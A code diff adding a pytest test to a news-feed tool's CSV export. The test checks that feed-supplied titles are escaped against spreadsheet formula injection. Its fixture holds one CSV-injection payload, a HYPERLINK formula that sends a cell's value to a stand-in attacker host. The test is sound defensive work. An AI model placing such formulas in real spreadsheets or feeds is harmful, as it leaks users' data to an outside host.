@@ -186,3 +186,19 @@ def test_story_export_csv_is_a_story_a_row_in_utf8_for_excel_too(config: Path) -
     assert len(rescue["matched_article_ids"].split()) == 2
     excel = vigie(*export, "--excel", "--config", config).stdout_bytes
     assert excel.startswith(b"\xef\xbb\xbfstory_id,")
+
+
+def test_story_export_csv_cells_from_a_feed_are_never_formulas(
+    tmp_path: Path, write_config: Callable[..., Path]
+) -> None:
+    """As in the article export: a headline or a feed's title a spreadsheet would run as a
+    formula (OWASP's CSV injection) is written as text, a ' before it."""
+    title = '=HYPERLINK("https://evil.example/?"&A1,"Police in Calais")'
+    text = "Police cleared a camp in Calais."
+    path = feed(tmp_path / "f.rss", "@feed", item(title, "https://news.example/x", "", text))
+    rules = {"paths": [str(Path(__file__).resolve().parents[1] / "rules")]}
+    config = write_config([path], rules=rules)
+    assert vigie("once", "--config", config).exit_code == 0
+    export = ("articles", "export", "--stories", "--since", "0", "--format", "csv")
+    [row] = csv.DictReader(io.StringIO(vigie(*export, "--config", config).stdout))
+    assert (row["title"], row["feed"], row["outlets"]) == ("'" + title, "'@feed", "'@feed")
